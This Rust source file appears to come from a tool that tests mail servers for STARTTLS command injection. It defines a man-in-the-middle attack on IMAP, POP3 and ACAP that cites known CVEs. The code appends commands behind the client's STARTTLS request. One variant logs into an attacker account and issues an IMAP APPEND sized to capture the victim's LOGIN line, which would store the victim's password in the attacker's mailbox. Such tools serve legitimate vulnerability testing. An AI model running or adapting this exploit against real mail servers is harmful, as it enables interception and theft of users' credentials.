//! Sends commands behind the client's STARTTLS.

use super::kit::{asks_for_tls, login, next_tag};
use super::led::{HANDSHAKE, led};
use super::{Attack, Deciding, Group, group, tamper};
use crate::base::ATTACKER;
use crate::base::{Protocol, Switch, switch};
use crate::harm::success;

switch!(
    Middle INJECTED,
    "injected",
    Setting,
    &["probe", "login", "store"],
    &[],
    "Injected command",
    "One that only shows that it was carried out, a login to the attacker's own account, or that and the beginning of a message (IMAP): what the victim sends next is stored there."
);

static SWITCHES: &[&Switch] = &[&INJECTED, &HANDSHAKE];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
        given: &[],
        right: &[],
        wrong: &["server.keeps-buffer=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Pop3],
        given: &["client.port=tls-first", "middle.handshake-of=the-tls-port"],
        right: &[],
        wrong: &["server.keeps-buffer=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "command-injection",
    title: "Inject commands",
    about: "Adds a command in the same segment behind the client's STARTTLS: a server that keeps it carries it out inside TLS.",
    group: Group::Injection,
    known: &[
        group::USENIX,
        "CVE-2011-0411 Postfix",
        "CVE-2011-1926 Cyrus",
        "CVE-2021-38542 Apache James",
        "CVE-2020-29547 Citadel",
    ],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let injected = switches.get(&INJECTED);
        if switches.get(&HANDSHAKE) == "the-tls-port" && dialect.protocol != Protocol::Acap {
            let (user, password) = ATTACKER;
            let probe: &[u8] = if dialect.protocol == Protocol::Pop3 { b"CAPA\r\n" } else { b"q9 NOOP\r\n" };
            let login = login(dialect.protocol, "q9", user, password).concat();
            return led(dialect, Vec::new(), if injected == "probe" { probe } else { &login });
        }
        tamper(move |message, moves| {
            moves.pass();
            let Some(tag) = asks_for_tls(dialect, &message) else { return };
            if injected != "probe" {
                let (user, password) = ATTACKER;
                moves.add(login(dialect.protocol, "q1", user, password).concat());
                if injected == "store" && dialect.protocol == Protocol::Imap {
                    // As long as the victim's LOGIN, whose name is known and whose password is guessed to have 16
                    // characters: its line end then ends the command.
                    let length = next_tag(&tag).len().saturating_add(" LOGIN tim ".len()).saturating_add(16);
                    moves.add(format!("q2 APPEND INBOX {{{length}+}}\r\n").into_bytes());
                }
            } else if dialect.protocol == Protocol::Pop3 {
                moves.add(b"CAPA\r\n".to_vec());
            } else {
                moves.add(b"q1 NOOP\r\n".to_vec());
            }
        })
    },
    success: &success::CARRIED_OUT,
    deciding: DECIDING,
};
